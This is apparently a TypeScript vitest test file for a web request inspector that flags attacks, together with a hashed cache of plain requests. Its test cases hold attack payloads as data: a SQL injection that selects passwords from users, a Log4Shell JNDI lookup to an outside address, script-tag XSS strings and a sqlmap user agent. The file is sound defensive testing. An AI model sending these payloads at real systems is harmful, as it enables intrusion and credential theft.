import { expect, test } from 'vitest';
import { inspect } from './inspect.ts';
import { PlainRequests } from './plain-requests.ts';
import type { WebRequest } from './web-inspection.types.ts';

const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0';
const seen = (request: Partial<WebRequest>): readonly string[] =>
  inspect({ method: 'GET', target: '/news/today', headers: { 'user-agent': BROWSER }, ...request }).map(
    ({ kind }) => kind,
  );

test.each<[string, Partial<WebRequest>, string]>([
  ['by another method', { method: 'TRACE' }, 'protocol-attack'],
  ['with a body', { method: 'POST', body: 'q=1+UNION+SELECT+password+FROM+users--' }, 'sql-injection'],
  ['from a scanner', { headers: { 'user-agent': 'sqlmap/1.7' } }, 'scanner'],
  ['with a header that says more', { headers: { 'user-agent': '${jndi:ldap://203.0.113.9/a}' } }, 'log4shell'],
  ['after a referer that says more', { headers: { referer: 'https://a.example/?q=<script>alert(1)</script>' } }, 'xss'],
])('a target that was plain before is looked at %s', (_, request, kind) => {
  // The third look finds it remembered.
  for (let look = 0; look < 3; look++) expect(seen({})).toEqual([]);
  expect(seen(request)).toEqual([kind]);
});

test('what was found is found again', () => {
  const target = '/?q=%3Cscript%3Ealert(1)%3C/script%3E';
  expect(seen({ target })).toEqual(seen({ target }));
  expect(seen({ target })).not.toEqual([]);
});

test('what came twice is known; it is forgotten for another of the same hash, not mistaken for it', () => {
  const plain = new PlainRequests(() => true);
  const get = (target: string): WebRequest => ({ method: 'GET', target, headers: {} });
  const [a, b] = twoOfOneSlot();
  plain.add(get(a));
  expect(plain.has(get(a))).toBe(false);
  plain.add(get(a));
  expect([plain.has(get(a)), plain.has(get(b))]).toEqual([true, false]);
  plain.add(get(b));
  plain.add(get(b));
  expect([plain.has(get(a)), plain.has(get(b))]).toEqual([false, true]);
});

/** Tried out: the hash is the table's own affair. */
function twoOfOneSlot(): [string, string] {
  const plain = new PlainRequests(() => true);
  const request = (n: number): WebRequest => ({ method: 'GET', target: `/page/${n}`, headers: {} });
  const keep = (n: number): void => {
    plain.add(request(n));
    plain.add(request(n));
  };
  keep(0);
  for (let n = 1; n < 1_000_000; n++) {
    keep(n);
    if (!plain.has(request(0))) return [request(0).target, request(n).target];
  }
  throw new Error('no two of a million share a slot');
}
